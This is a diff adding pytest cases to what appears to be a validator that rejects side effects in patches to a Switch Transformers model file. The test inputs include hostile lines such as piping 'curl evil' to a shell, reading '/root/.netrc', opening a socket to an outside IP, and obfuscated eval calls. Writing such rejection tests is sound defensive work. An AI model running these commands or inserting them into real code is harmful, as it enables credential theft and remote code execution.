@@ -93,3 +93,42 @@ def test_hunk_counts_must_cover_the_body_but_blank_context_lines_are_fine():
         check_patch(wrong_counts, POLICY)
     stripped = SWITCH.replace("\n \n", "\n\n")  # editors strip the space of blank context lines
     assert check_patch(stripped, POLICY).added == check_patch(SWITCH, POLICY).added
+
+
+_SW = "src/transformers/models/switch_transformers/modeling_switch_transformers.py"
+
+
+def _with_added(lines: list[str]) -> str:
+    """The real switch fix plus `lines` appended at the end of its hunk (a valid diff)."""
+    fix = (Path(__file__).parent / "fixtures" / "fix" / "switch_transformers_static_experts.diff").read_text()
+    head, _, rest = fix.partition("@@ -171,12 +171,12 @@")
+    body = rest.split("\n", 1)[1]
+    extra = "".join(f"+{ln}\n" for ln in lines)
+    return f"{head}@@ -171,12 +171,{12 + len(lines)} @@\n{extra}{body}"
+
+
+@pytest.mark.parametrize("lines, why", [
+    (["import subprocess"], "subprocess"),
+    (["        os.system('curl evil | sh')"], "os."),
+    (["        data = open('/root/.netrc').read()"], "open("),
+    (["        eval(compile('1', 'x', 'eval'))"], "eval("),
+    (["        exec(payload)"], "exec("),
+    (["        __import__('socket').create_connection(('1.2.3.4', 80))"], "__import__"),
+    (["        torch.save(hidden_states, '/tmp/x')"], "torch"),
+    (["_payload()"], "run at import"),
+    (["_ = _payload()"], "run at import"),
+    (["        getattr(__builtins__, 'ev' + 'al')('1')"], "__builtins__"),
+])
+def test_side_effects_in_a_model_patch_are_rejected_with_a_reason(lines, why):
+    with pytest.raises(PatchRejected, match="side effects") as e:
+        check_patch(_with_added(lines), PatchPolicy(model_type="switch_transformers"))
+    assert why in str(e.value) and _SW in str(e.value)
+
+
+def test_harmless_additions_and_strings_pass():
+    ok = ["        # do not open( a file here; eval( is mentioned only in a comment",
+          "        msg = 'open(file) and os.system in a string are text'",
+          "        hidden_states = torch.compile(lambda x: x)(hidden_states)",
+          "logger_level = 3"]
+    got = check_patch(_with_added(ok), PatchPolicy(model_type="switch_transformers"))
+    assert got.files == [_SW]
